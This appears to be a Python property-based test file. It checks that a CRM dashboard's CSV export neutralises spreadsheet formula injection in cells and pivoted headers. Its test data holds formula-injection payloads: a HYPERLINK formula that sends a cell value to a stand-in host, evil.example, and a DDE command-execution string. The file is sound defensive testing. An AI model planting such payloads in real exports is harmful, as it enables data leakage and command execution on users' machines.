"""CSV exports of hostile data: no cell of any column type, and no header, reaches a spreadsheet as a formula.

Exports are built from CRM values (names, campaigns, channels), and a pivot or
breakdown turns values into column headers. Whatever the column's dtype — text,
categorical (pd.cut, groupby on categories), object holding mixed values — the
exported cell must not start like a formula.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from pages.components.exports import FORMULA_STARTS, csv_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]  # fmt: skip
cell = st.one_of(
    st.sampled_from(FORMULAS), st.text(max_size=12), st.integers(-5, 5), st.floats(-2, 2), st.none()
)


def exported_cells(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]], frame: pd.DataFrame) -> None:
    numbers = {str(v) for column in frame.columns for v in frame[column] if isinstance(v, int | float)}
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or value in numbers, (value, frame.dtypes.to_dict())


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from(FORMULAS), cell), min_size=1, max_size=8),
    st.sampled_from(["str", "category", "object"]),
)
def test_no_exported_cell_of_any_dtype_is_a_formula(rows, dtype):
    frame = pd.DataFrame(rows, columns=["name", "value"])
    frame["name"] = frame["name"].astype(dtype)
    assert_no_formula(exported_cells(frame)[1:], frame)


def test_a_categorical_column_is_neutralised():
    frame = pd.DataFrame({"channel": pd.Categorical(['=HYPERLINK("http://evil.example","x")', "Web"])})
    assert exported_cells(frame)[1][0].startswith("'=")


def test_headers_made_of_crm_values_are_neutralised():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "Web": [2]})  # e.g. channels pivoted into columns
    assert not any(header.startswith(FORMULA_STARTS) for header in exported_cells(frame)[0])
